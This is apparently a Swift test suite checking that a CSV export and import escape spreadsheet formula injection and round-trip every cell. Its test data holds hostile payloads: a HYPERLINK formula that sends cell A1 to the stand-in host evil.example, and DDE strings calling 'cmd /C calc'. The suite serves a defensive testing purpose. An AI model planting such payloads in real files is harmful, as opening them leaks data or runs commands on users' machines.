import Platform
import Testing

@testable import SyncNode

/// Staff open our files with a double click. No cell runs, and none is changed by the way there and back.
@Suite("out.spreadsheet") struct SpreadsheetStories {
    /// What a spreadsheet may take for the beginning of a formula.
    private static let starts = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
    private static let alphabet = starts + ["'", "a", "客", "\"", ",", "\u{301}"]

    private static func runs(_ cell: String) -> Bool {
        cell.unicodeScalars.first.map { starts.contains(String($0)) } ?? false
    }

    /// Every text of up to four of these signs.
    private static let cells: [String] = {
        var all = [""]
        var longest = [""]
        for _ in 0..<4 {
            longest = longest.flatMap { text in alphabet.map { text + $0 } }
            all += longest
        }
        return all
    }()

    @Test func `every cell comes back as it was, and none of them runs`() throws {
        #expect(Self.cells.count > 80_000)
        var guarded: Set<[UInt8]> = []
        for cell in Self.cells {
            let written = SpreadsheetCell.guarded(cell)
            #expect(!Self.runs(written))
            #expect(Array(SpreadsheetCell.plain(written).utf8) == Array(cell.utf8))
            guarded.insert(Array(written.utf8))
        }
        #expect(guarded.count == Set(Self.cells.map { Array($0.utf8) }).count, "two cells look the same")
        #expect(SpreadsheetCell.guarded("'Twas") == "'Twas" && SpreadsheetCell.plain("'Twas") == "'Twas")
    }

    @Test func `so do they as records of a file`() throws {
        let cells = Self.cells.filter { $0.unicodeScalars.count < 4 }
        var reader = try CSVReader(
            MemorySource(cells.flatMap { CSVFormat.line([SpreadsheetCell.guarded($0), "end"]) }))
        for cell in cells {
            guard case .fields(let fields)? = try reader.next()?.content else {
                Issue.record("no record for a cell")
                return
            }
            #expect(Array(SpreadsheetCell.plain(fields[0]).utf8) == Array(cell.utf8))
        }
    }

    // MARK: Exports

    /// Begins like a formula, or like what the export makes of one.
    private static let hostile = [
        #"=HYPERLINK("http://evil.example/?"&A1,"退款")"#, "'=1+1", "''=1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
        "+8613800000000",
        "-5", "'", "'Twas", "＝1+1", "＠x", "'＝1",
    ]

    private func rows(_ text: String) throws -> [[String]] {
        var reader = try CSVReader(MemorySource(Array(text.utf8)))
        var rows: [[String]] = []
        while let record = try reader.next() {
            if case .fields(let fields) = record.content { rows.append(fields) }
        }
        return rows
    }

    private func column(_ name: String, _ text: String) throws -> Set<String> {
        let rows = try rows(text)
        let index = try #require(rows.first?.firstIndex(of: name))
        return Set(rows.dropFirst().map { $0[index] })
    }

    @Test func `an export is safe as it is, and an import takes away exactly what the export added`() throws {
        let old = try RunningNode("b1")
        for words in Self.hostile { _ = try old.register(["course": words]) }
        let folder = try TemporaryFolder()
        let safe = old.run("export").output
        for cell in try rows(safe).joined() { #expect(!Self.runs(cell), "\(cell)") }
        #expect(try column("course", old.run("export", "--raw").output) == Set(Self.hostile))
        for (name, text) in [("safe.csv", safe), ("raw.csv", old.run("export", "--raw").output)] {
            let new = try RunningNode("b1")
            let file = try folder.write(name, text)
            let outcome = new.run("import", file, "--mapping", Repository.path("samples/export-mapping.json"))
            #expect(outcome.code == .success, "\(outcome.error)")
            #expect(try column("course", new.run("export", "--raw").output) == Set(Self.hostile), "\(name)")
            #expect(try column("course", new.run("export").output) == column("course", safe), "\(name)")
        }
        let both = old.run("export", "--format", "jsonl", "--raw")
        #expect(both.code == .usage && both.error.contains("[export.raw-is-csv]"))
    }

    // MARK: Reject files

    private static let mapping = #"""
        {"version": 1, "fields": {"what": {"column": "=何事", "required": true},
            "kind": {"column": "K", "values": {"a": "complaint"}}}}
        """#

    private func run(_ csv: String, _ folder: TemporaryFolder, _ name: String) throws -> [[String: String]] {
        let files = ImportRun.Files(
            source: try folder.write(name, csv), mapping: try folder.write("map.json", SpreadsheetStories.mapping))
        var run = try ImportRun(files, targets: ["what", "kind"], hash: SHA256.function)
        var good: [[String: String]] = []
        while let row = try run.next() {
            if case .fields(let fields) = row.outcome { good.append(fields) }
            try run.settle(row)
        }
        try run.finish()
        return good
    }

    @Test func `a reject file is safe, is mended and comes in with each value as it was, however often`() throws {
        let folder = try TemporaryFolder()
        let words = Self.hostile
        var csv = CSVFormat.line(["=何事", "K"]) + words.flatMap { CSVFormat.line([$0, "@bad"]) }
        csv += Array("=坏\"的,a\n".utf8)
        // Nothing is taken from what others wrote.
        let good = try run(String(decoding: csv, as: UTF8.self) + "'=theirs,a\n", folder, "in.csv")
        #expect(good == [["what": "'=theirs", "kind": "complaint"]])
        var file = "in.csv"
        for generation in 1...3 {
            let rejects = try folder.read(file + ".rejects.csv")
            for cell in try rows(rejects).joined() { #expect(!Self.runs(cell), "\(cell)") }
            let mended = rejects.replacing(",'@bad\n", with: ",a\n")
            #expect(try run(mended, folder, "mended\(generation).csv").compactMap { $0["what"] } == words)
            // Left as it is it is rejected again.
            file = "again\(generation).csv"
            #expect(try run(rejects, folder, file).isEmpty)
        }
    }

    @Test func `a receipt names what a node answered, and runs nothing of it`() throws {
        let folder = try TemporaryFolder()
        let receipts = try ReceiptFile(folder.file("receipts.csv"))
        try receipts.append(row: 1, ticket: "010101-20240301-1234-A")
        try receipts.append(row: 2, ticket: #"=cmd|' /C calc'!A0"#)
        #expect(try folder.read("receipts.csv") == "1,010101-20240301-1234-A\n2,'=cmd|' /C calc'!A0\n")
    }
}
